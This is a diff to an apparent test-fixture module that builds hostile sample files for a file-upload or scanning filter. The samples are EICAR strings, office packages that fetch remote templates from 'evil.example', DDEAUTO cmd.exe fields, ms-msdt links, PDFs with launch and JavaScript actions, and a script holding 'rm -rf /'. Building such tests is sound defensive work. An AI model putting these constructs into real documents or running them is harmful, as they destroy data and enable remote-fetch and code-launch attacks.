@@ -12,7 +12,25 @@ from dataclasses import dataclass
 
 EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 SCRIPT = b"<html><script>alert(1)</script></html>"
-PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+
+
+def pdf(catalog: bytes = b"", *more: bytes, trailer: bytes = b"") -> bytes:
+    """A small whole PDF: one empty page, what its catalogue says besides, and more objects from the fourth on."""
+    objects = (
+        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", *more,
+    )  # fmt: skip
+    made, places = b"%PDF-1.7\n", []
+    for n, one in enumerate(objects, 1):
+        places.append(len(made))
+        made += b"%d 0 obj%s endobj\n" % (n, one)
+    start = len(made)
+    table = b"".join(b"%010d 00000 n \n" % place for place in places)
+    made += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table)
+    return made + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)
+
+
+PDF = pdf()
 #: Words that would be a script in one place or another, and are words everywhere.
 CALL = "alert(1)"
 SCRIPTS = (
@@ -90,6 +108,8 @@ def harms() -> Iterator[Harm]:
     yield from _markup()
     yield from _kinds()
     yield from _names()
+    yield from _active()
+    yield from _papers()
     yield from _rest()
 
 
@@ -212,6 +232,101 @@ def _kinds() -> Iterator[Harm]:
         yield Harm("huge picture", "huge.jpg", picture)
 
 
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
+PROGRAMS = {
+    "exe": b"MZ\x90\x00\x03" + b"\0" * 99, "elf": b"\x7fELF\x02\x01" + b"\0" * 99, "mach": b"\xcf\xfa\xed\xfe" + b"\0" * 99,
+    "java": b"\xca\xfe\xba\xbe" + b"\0" * 99, "script": b"#!/bin/sh\nrm -rf /\n",
+}  # fmt: skip
+
+
+def relations(type: str, target: str, mode: str = "External") -> bytes:
+    """What a part of a document refers to."""
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}" Target="{target}"'
+        f' TargetMode="{mode}"/></Relationships>'
+    ).encode()
+
+
+def _active() -> Iterator[Harm]:
+    """Documents that run something, or fetch it, when they are opened."""
+    for kind in OFFICE:
+        for what, content in PROGRAMS.items():
+            yield Harm(f"program in a document ({what})", f"program.{kind}", office(kind, {f"{PART[kind]}.bin": content}))
+        yield Harm("embedded object", f"object.{kind}", office(kind, {f"{PART[kind]}.bin": OLE}))
+        for name in ("run.exe", "run.js", "page.html", "link.lnk", "a.hta"):
+            yield Harm("program by its name in a document", f"named.{kind}", office(kind, {f"{PART[kind]}{name}": b"x"}))
+        yield Harm("test virus in a document", f"virus.{kind}", office(kind, {f"{PART[kind]}.bin": b"x" * 65_500 + EICAR}))
+    for kind in ("docx", "xlsx", "pptx"):
+        part = PART[kind][:-1]
+        for type in ("attachedTemplate", "oleObject", "frame", "subDocument", "image", "externalLinkPath", "mailMergeSource", "slideMaster"):
+            for target in ("http://evil.example/t.dotm", "\\\\evil.example\\share\\t.dotm"):
+                yield Harm(f"fetched unasked ({type})", f"outside.{kind}", office(kind, {f"{part}_rels/a.xml.rels": relations(type, target)}))
+        yield Harm("fetched unasked, after blanks", f"late.{kind}", office(kind, {f"{part}_rels/a.xml.rels": relations("frame", "http://a.example").replace(b"><R", b">" + b" " * 70_000 + b"<R")}))
+        for target in ("file:///c:/x.exe", "\\\\evil.example\\x", "ms-msdt:/id", "javascript:alert(1)", "search-ms:query=x"):
+            yield Harm("link that runs", f"link.{kind}", office(kind, {f"{part}_rels/a.xml.rels": relations("hyperlink", target)}))
+        yield Harm("control", f"control.{kind}", office(kind, {f"{part}activeX/activeX1.xml": b"<a/>"}))
+        declared = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+        yield Harm("declared macros", f"declared.{kind}", packed({"[Content_Types].xml": declared, {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[kind]: b"<d/>"}))
+    yield Harm("macros of old", "sheets.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}))
+    yield Harm("link to a program", "dde.xlsx", office("xlsx", {"xl/externalLinks/e1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}))
+    yield Harm("field that runs", "dde.docx", office("docx", {"word/a.xml": b"<w><instrText>DDEAUTO c:/windows/cmd.exe</instrText></w>"}))
+    for kind in ("odt", "ods", "odp"):
+        yield Harm("macros", f"basic.{kind}", office(kind, {"Basic/Standard/Module1.xml": b"<m/>"}))
+        yield Harm("script", f"script.{kind}", office(kind, {"Scripts/python/a.py": b"x"}))
+        yield Harm("listener", f"listener.{kind}", office(kind, {"a.xml": b'<a><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'}))
+    for what, content in PROGRAMS.items():
+        yield Harm(f"program in an archive ({what})", "archive.zip", packed({"report.dat": content}))
+    yield Harm("old office file in an archive", "archive.zip", packed({"report.doc": OLE}))
+    yield Harm("test virus in an archive", "archive.zip", packed({"a.txt": EICAR}))
+
+
+#: What a PDF does or brings along, in its catalogue; names may be written with numbers instead of letters.
+ACTIONS = (
+    b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b"/OpenAction<</S/#4aavaScript/#4a#53(app.alert(1))>>", b"/OpenAction 4 0 R",
+    b"/AA<</WC<</S/JavaScript/JS(x)>>>>", b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>", b"/OpenAction<</S/Launch/F(cmd.exe)>>",
+    b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>", b"/OpenAction<</S/ImportData/F(x)>>", b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>",
+    b"/OpenAction<</S/GoToE/F(x)>>", b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x)>>", b"/AcroForm<</XFA[(a)4 0 R]>>",
+    b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Launch/F(x)>>]>>", b"/OpenAction<</S/Rendition/JS(x)>>",
+    b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>", b"/AF[<</Type/Filespec/EF<</F 4 0 R>>>>]",
+)  # fmt: skip
+_ATTACHED = b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"
+
+
+def _papers() -> Iterator[Harm]:
+    """PDFs that do something when they are opened, have something inside, or cannot be looked into."""
+    for n, action in enumerate(ACTIONS):
+        more = b"<</S/JavaScript/JS(x)>>" if action == b"/OpenAction 4 0 R" else _ATTACHED
+        yield Harm("active PDF", f"active{n}.pdf", pdf(action, more))
+        yield Harm("active PDF in an archive", "papers.zip", packed({f"active{n}.pdf": pdf(action, more)}))
+    yield Harm("script that nothing leads to", "loose.pdf", pdf(b"", b"<</S/JavaScript/JS(x)>>"))
+    yield Harm("file that nothing leads to", "loose.pdf", pdf(b"", _ATTACHED))
+    yield Harm("script in packed objects", "packed.pdf", _in_stream(b"<</S/JavaScript/JS(x)>>"))
+    yield Harm("locked PDF", "locked.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")>>/ID[(a)(a)]"))
+    for cut in (20, 60, 120, len(PDF) - 30):
+        yield Harm("cut PDF", "cut.pdf", PDF[:cut])
+    yield Harm("PDF without an end", "endless.pdf", PDF.replace(b"startxref", b"startnull"))
+    yield Harm("PDF that leads nowhere", "nowhere.pdf", PDF.replace(b"startxref\n", b"startxref\n9"), refused=False)
+    yield Harm("test virus in a PDF", "virus.pdf", pdf(b"", b"(" + EICAR.replace(b"(", b"").replace(b")", b"") + b")"))
+
+
+def _in_stream(inside: bytes) -> bytes:
+    """A PDF whose fourth object lies packed in the fifth, and whose table is an object too."""
+    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]
+    stream = zlib.compress(b"4 0 " + inside)
+    made, places = b"%PDF-1.7\n", {}
+    for n, one in enumerate(objects, 1):
+        places[n] = len(made)
+        made += b"%d 0 obj%s endobj\n" % (n, one)
+    places[5] = len(made)
+    made += b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (len(stream), stream)
+    places[6] = len(made)
+    rows = [(0, 0, 65_535), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0), (1, places[6], 0)]
+    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
+    head = b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
+    return made + head + b"stream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % (table, places[6])
+
+
 def _names() -> Iterator[Harm]:
     """A harmless content under a name that is not: taken under a clean one, or refused."""
     names = (
@@ -234,7 +349,8 @@ def _rest() -> Iterator[Harm]:
     for ending in ("pdf", "png", "jpg", "zip", *OFFICE):
         yield Harm("test virus under a false name", f"eicar.{ending}", EICAR)
     for ending in ("txt", "csv"):
-        yield Harm("test virus", f"eicar.{ending}", EICAR, refused=False)
+        yield Harm("test virus", f"eicar.{ending}", EICAR)
+        yield Harm("test virus far inside", f"far.{ending}", b"x" * 65_500 + EICAR)
         yield Harm("web page as a text", f"page.{ending}", SCRIPT, refused=False)
         yield Harm("bytes as a text", f"bytes.{ending}", b"\x00\x01\x02\x03" * 30)
         yield Harm("program as a text", f"program.{ending}", b"\x7fELF\x02\x01\x01" + b"\0" * 60)
